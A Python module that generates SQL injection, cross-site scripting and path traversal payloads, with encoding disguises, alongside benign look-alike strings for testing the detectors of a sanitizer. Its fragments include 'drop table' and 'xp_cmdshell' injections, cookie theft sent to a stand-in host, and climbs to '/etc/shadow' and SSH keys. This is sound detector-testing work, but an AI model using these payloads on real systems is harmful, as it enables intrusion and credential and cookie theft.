"""Attacks and honest values made by grammar, for the detectors of ``epm.sanitize``.

Each generator takes a random generator and yields texts without end; the same seed gives the
same texts. ``hold_out`` picks other productions, not only other numbers: what one part is tuned
on, the other has never shown.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

Part = tuple[str, ...]


def _half(items: Part, hold_out: bool) -> Part:
    """Every third production belongs to the hold-out part only."""
    return items[2::3] if hold_out else tuple(x for i, x in enumerate(items) if i % 3 != 2)


# ------------------------------------------------------------------------------ SQL injection

_PREFIXES = ("1", "-1", "x", "admin", "", "0", "abc", "1.5", "test@x.de", "%", "-9383", "foo%")
_CLOSERS = ("'", "", '"', "')", ")", "'))", '")', "))", "')))", "%'", "`", "%')")
_CONDITIONS = (
    "{n}={n}",
    "'{w}'='{w}'",
    "{n}={m}",
    "{n}>{z}",
    "{n} like {n}",
    "not {n}={m}",
    "(select {n})={n}",
    "{n} between {z} and {n}",
    "exists(select {n})",
    "ascii(substr({f},1,1))>{n}",
    "length({f})={n}",
    "{n} in ({n},{m})",
    "sleep({z})",
    "'{w}' like '{w}'",
    "(select count(*) from {t})>{z}",
    "{n}=(select {n} from pg_sleep({z}))",
    "benchmark({n}00000,md5({z}))",
    "{n}=cast({f} as int)",
    "extractvalue({n},concat(0x7e,{f}))",
    "{n}=convert(int,(select {f}))",
    "if({n}={n},sleep({z}),{z})",
    "(select {n} from(select count(*),concat({f},floor(rand(0)*2))x from {t} group by x)a)",
    "updatexml({n},concat(0x2e,{f}),{n})",
    "row({z},{z})>(select count(*),{f})",
    "{n}<>{m}",
    "mid({f},1,1)='{c}'",
    "substring({f},{z},1)>'{c}'",
    "(case when {n}={n} then 1 else 0 end)",
    "{n} rlike (select (case when ({n}={n}) then 1 else 0x28 end))",
    "elt({n}={n},{z})",
)
_FUNCTIONS = (
    "user()",
    "database()",
    "version()",
    "@@version",
    "current_user",
    "(select {w} from {t} limit 1)",
    "@@datadir",
    "session_user()",
    "schema()",
)
_TABLES = (
    "users",
    "accounts",
    "information_schema.tables",
    "mysql.user",
    "dual",
    "sysobjects",
    "all_tables",
    "orders",
    "sqlite_master",
)
_TAILS = (
    " and {C}",
    " or {C}",
    " union select {L}",
    " union all select {L}",
    " union all select {L} from {t}",
    " order by {z}",
    ";select pg_sleep({z})",
    ";waitfor delay '0:0:{z}'",
    " having {C}",
    ";drop table {t}",
    " group by {z} having {C}",
    " or {C} and {C}",
    " xor {C}",
    " || {C}",
    " && {C}",
    " rlike sleep({z})",
    ";insert into {t} values({L})",
    ";update {t} set {w}='{w}'",
    " where {C}",
    " as {w} where {C}",
    " procedure analyse(extractvalue({n},concat(0x5c,{f})),1)",
    " limit 1 union select {L}",
    " union(select {L})",
    ";exec xp_cmdshell '{w}'",
    ";declare @{w} varchar(99)",
    " or not {C}",
    " order by (select {n})",
    " limit {z},{z} into outfile '/tmp/{w}'",
    " and({C})",
    " or({C})",
)
_ENDS = (
    "--",
    "-- -",
    "#",
    "",
    "/*",
    "-- {w}",
    "--+",
    ";--",
    "%00",
    " and '{w}'='{w}",
    " and ({n}={n}",
)
_WORDS = ("kPzq", "pass", "name", "ywqk", "role", "zz", "login", "email")


def sqli(rng: random.Random, *, hold_out: bool = False) -> Iterator[str]:
    """Yield SQL injections: prefix, what closes the context, a tail, an end, a disguise."""
    tails, conditions = _half(_TAILS, hold_out), _half(_CONDITIONS, hold_out)
    while True:
        at = rng.randrange(len(_CLOSERS))
        closer = _CLOSERS[at]
        prefix = (
            rng.choice(_PREFIXES)
            if "'" in closer or '"' in closer or "`" in closer
            else (rng.choice(("1", "-1", "0", "5", "-9383")))
        )
        text = prefix + closer + rng.choice(tails) + rng.choice(_ENDS)
        yield _sql_disguise(rng, _fill_sql(rng, text, conditions))


def _fill_sql(rng: random.Random, text: str, conditions: Part) -> str:
    while "{C}" in text:
        text = text.replace("{C}", rng.choice(conditions), 1)
    low = rng.randint(1, 9)
    high = rng.randint(10, 9999)
    columns = ["null", "{n}", "{f}", "'{w}'", "concat(0x71,{f},0x71)"]
    text = text.replace("{L}", ",".join(rng.choice(columns) for _ in range(rng.randint(1, 6))))
    text = text.replace("{f}", rng.choice(_FUNCTIONS)).replace("{t}", rng.choice(_TABLES))
    for mark, value in (
        ("n", high),
        ("m", high + 7),
        ("z", low),
        ("w", rng.choice(_WORDS)),
        ("c", rng.choice("abcxyz")),
    ):
        text = text.replace(f"{{{mark}}}", str(value))
    return text


def _sql_disguise(rng: random.Random, text: str) -> str:
    how = rng.randrange(14)
    if how == 0:
        return quote(text)
    if how == 1:
        return quote(quote(text))
    if how == 2:
        return text.replace(" ", "/**/")
    if how == 3:
        return text.replace(" ", "+")
    if how == 4:
        return text.upper()
    if how == 5:
        return "".join(rng.choice((c.upper(), c.lower())) for c in text)
    if how == 6:
        return text.replace(" ", rng.choice(("\t", "\n", "%0a", "%09", "\x0b", "\xa0")))
    if how == 7:
        return text.replace("'", rng.choice(("%27", "&#39;", "\\'", "\uff07")))
    return text


# ------------------------------------------------------------------------ cross-site scripting

_CODES = (
    "alert(1)",
    "alert(document.cookie)",
    "prompt(8)",
    "confirm(1)",
    "alert`1`",
    "eval(atob('YQ=='))",
    "import('//e.test/x')",
    "location='//e.test/'+document.cookie",
    "fetch('//e.test/')",
    "window.alert(1)",
    "(alert)(1)",
    "top['alert'](1)",
    "alert(String.fromCharCode(88))",
    "document.write('x')",
    "[1].map(alert)",
)
_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onbegin",
    "onpointerenter",
    "onanimationend",
    "onwheel",
    "oncopy",
    "onblur",
    "onstart",
    "onloadstart",
    "onpageshow",
    "oninput",
    "onscrollend",
    "ondrag",
)
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src",
    "marquee",
    "a href=#",
    "div",
    "p",
    "x-y",
    "iframe",
    "object data=x",
    "button",
    "math",
    "select autofocus",
    "style",
    "table",
    "textarea autofocus",
    "b",
    "form",
    "image src",
)
_VECTORS = (
    "<script>{J}</script>",
    "<{e} {h}={J}>",
    "<{e}/{h}={J}>",
    "<a href=javascript:{J}>x</a>",
    '<iframe src="javascript:{J}">',
    "<svg><script>{J}</script>",
    "<script src=//e.test/{w}.js></script>",
    "<form action=javascript:{J}><input type=submit>",
    '<{e} {h}="{J}" x="',
    "<object data=javascript:{J}>",
    "<math><a xlink:href=javascript:{J}>x",
    "<embed src=javascript:{J}>",
    "<svg><animate {h}={J} dur=1s>",
    '<meta http-equiv=refresh content="0;url=javascript:{J}">',
    "<button formaction=javascript:{J}>x",
    '<div style="width:expression({J})">',
    "<{e}\t{h}\t=\t{J}>",
    "<iframe srcdoc='<script>{J}</script>'>",
    "javascript:{J}",
    "<img src=1 {h}='{J}'//",
    "<base href=javascript:{J}//>",
    "data:text/html,<script>{J}</script>",
    "<scr<script>ipt>{J}</scr</script>ipt>",
    '{{constructor.constructor("{J}")()}}',
)
_BREAKS = (
    "",
    '">',
    "'>",
    '"/>',
    "</script>",
    "</title>",
    "-->",
    'x">',
    "'\">",
    "</textarea>",
    "]]>",
)
_IN_PLACE = (
    '" {h}={J} x="',
    "' {h}='{J}",
    "x {h}={J}",
    "';{J}//",
    '"-{J}-"',
    "'+{J}+'",
    "\\';{J}//",
    '"};{J};{"',
    "${{J}}",
    '" autofocus {h}="{J}',
    "'||{J}||'",
    "');{J};('",
)


def xss(rng: random.Random, *, hold_out: bool = False) -> Iterator[str]:
    """Yield scripts for all five places, with a way out of the place and a disguise."""
    vectors, places = _half(_VECTORS, hold_out), _half(_IN_PLACE, hold_out)
    codes, events = _half(_CODES, hold_out), _half(_EVENTS, hold_out)
    while True:
        if rng.random() < 0.75:
            text = rng.choice(_BREAKS) + rng.choice(vectors)
        else:
            text = rng.choice(places)
        for mark, value in (
            ("J", rng.choice(codes)),
            ("e", rng.choice(_ELEMENTS)),
            ("h", rng.choice(events)),
            ("w", rng.choice(_WORDS)),
        ):
            text = text.replace(f"{{{mark}}}", value)
        yield _html_disguise(rng, text)


def _html_disguise(rng: random.Random, text: str) -> str:
    how = rng.randrange(14)
    if how == 0:
        return quote(text)
    if how == 1:
        return quote(quote(text))
    if how == 2:
        return "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in text)
    if how == 3:
        return text.replace("<", "\\x3c").replace(">", "\\x3e")
    if how == 4:
        return text.replace("<", "\\u003c").replace(">", "\\u003e")
    if how == 5:
        return text.replace("<", "\uff1c").replace(">", "\uff1e")
    if how == 6:
        return text.replace("script", "ScRiPt").replace("on", "oN")
    if how == 7:
        return text.replace("<", "%u003c").replace(">", "%u003e")
    if how == 8:
        return text.replace(
            "javascript:", rng.choice(("java\tscript:", "jav&#x0a;ascript:", "JaVaScript:"))
        )
    return text


# ------------------------------------------------------------------------------ path traversal

_DOTS = (
    "..",
    "%2e%2e",
    "%252e%252e",
    "%c0%ae%c0%ae",
    ".%2e",
    "0x2e0x2e",
    "%uff0e%uff0e",
    "..;",
    "%e0%80%ae%e0%80%ae",
    "....",
    "%2e.",
    "\uff0e\uff0e",
)
_SLASHES = (
    "/",
    "\\",
    "%2f",
    "%5c",
    "%252f",
    "%255c",
    "%c0%af",
    "%c1%9c",
    "//",
    "\\/",
    "%u2215",
    "%u2216",
    "0x2f",
    "0x5c",
    "/./",
    "%00/",
    "%uEFC8",
    "%c0%9v",
)
_FILES = (
    "etc/passwd",
    "boot.ini",
    "windows/win.ini",
    "etc/shadow",
    "{FILE}",
    "proc/self/environ",
    "",
    "var/log/httpd/access_log",
    "WEB-INF/web.xml",
    "index.php",
    "windows\\system32\\drivers\\etc\\hosts",
    "etc/hosts",
    "config.php",
    ".htpasswd",
    "root/.ssh/id_rsa",
    "inetpub/wwwroot/global.asa",
)
_LEADS = ("", "/", "\\", "images/", "/static/", "./", "file:///", "page=", "http://h.test/")
_SUFFIXES = ("", "%00", "%00.jpg", "?", "#", "\x00.png", ";index.html")


def traversal(rng: random.Random, *, hold_out: bool = False) -> Iterator[str]:
    """Yield climbs of one to ten steps in one encoding, to a file of a server's own."""
    dots, slashes = _half(_DOTS, hold_out), _half(_SLASHES, hold_out)
    files = _half(_FILES, hold_out)
    while True:
        dot, slash = rng.choice(dots), rng.choice(slashes)
        if dot == "....":
            slash = "//"
        steps = rng.randint(2, 10)
        yield (
            rng.choice(_LEADS)
            + (dot + slash) * steps
            + rng.choice(files).replace("/", rng.choice(("/", slash)))
            + rng.choice(_SUFFIXES)
        )


# -------------------------------------------------------------------------------------- honest

_NAMES = (
    "O'Brien",
    "d'Angelo",
    "Müller",
    "Smith",
    "O'Neil-Díaz",
    "Иванов",
    "山田",
    "McDonald's",
    "Ng",
    "L'Oréal",
)
_NOUNS = (
    "table",
    "index",
    "user",
    "group",
    "order",
    "union",
    "view",
    "schema",
    "column",
    "script",
    "frame",
    "date",
    "cursor",
    "trigger",
    "style",
    "path",
    "database",
    "object",
    "case",
    "value",
)
_VERBS = (
    "select",
    "drop",
    "insert",
    "update",
    "delete",
    "create",
    "alter",
    "grant",
    "execute",
    "declare",
    "like",
    "order",
    "group",
    "set",
    "call",
    "load",
    "alert",
    "confirm",
    "prompt",
    "import",
)
_SENTENCES = (
    "please {v} a {n} from the {n}",
    "{N} and {N} {v} the {n}; {v} by later",
    "I'd {v} {d} or {d} {n}s",
    "it's {N}'s {n} -- {v} it",
    "Don't {v} the {n}; it isn't {N}'s",
    "{v} {n} where {n} is {d}",
    "{d} < {d} and {d} > {d}",
    "a{d} = b{d}",
    "{n} = {d} or {n} > {d}",
    "the {n}s' {n} and the {n}s' {v}",
    "{d}'{d}\" x {d}'{d}\"",
    "He said \"{v} the {n}\" or '{n}'",
    "<b>{n}</b> and <i>{v}</i>",
    '<a href="http://{n}.test/{d}">{v}</a>',
    "C:\\{n}s\\{N}\\{n}.txt",
    "../{n}s/{n}.png",
    "/home/{n}/{n}{d}.pdf",
    '{"{n}": "{N}", "{v}": {d}}',
    "{n}({d}, '{n}')",
    "if ({n} == {d} && {n} != {d}) {v}();",
    '{v}: {n}={d}; {n}="{v}"',
    "https://{n}.test/{v}?{n}={d}&{v}={n}#{n}",
    "{n}.{v}@{n}.test",
    "[{n}](http://{n}.test) **{v}**",
    "<{v}> {d} </{v}>",
    "{N} ({n}), {d} {n} St. #{d}",
    "union of {n}s and {n}s",
    "{v} all {n}s by {N} -- or {d} {n}s",
    "let {n} = '{v}'; let {v} = '{n}';",
    "{d}% of {n}s, {d}/{d} {v}",
    "{v} * {n} {d}",
    "the {n} ({v} {n}) of {N}'s",
    "{v} or {v} and {v}",
    "{v} into the {n} from {N}",
)


def benign(rng: random.Random, *, hold_out: bool = False) -> Iterator[str]:
    """Yield honest values full of the words, quotes and signs that attacks are made of."""
    sentences = _half(_SENTENCES, hold_out)
    choices: dict[str, Callable[[], str]] = {
        "{N}": lambda: rng.choice(_NAMES),
        "{n}": lambda: rng.choice(_NOUNS),
        "{v}": lambda: rng.choice(_VERBS),
        "{d}": lambda: str(rng.randint(0, 999)),
    }
    while True:
        text = rng.choice(sentences)
        for mark, pick in choices.items():
            while mark in text:
                text = text.replace(mark, pick(), 1)
        yield text
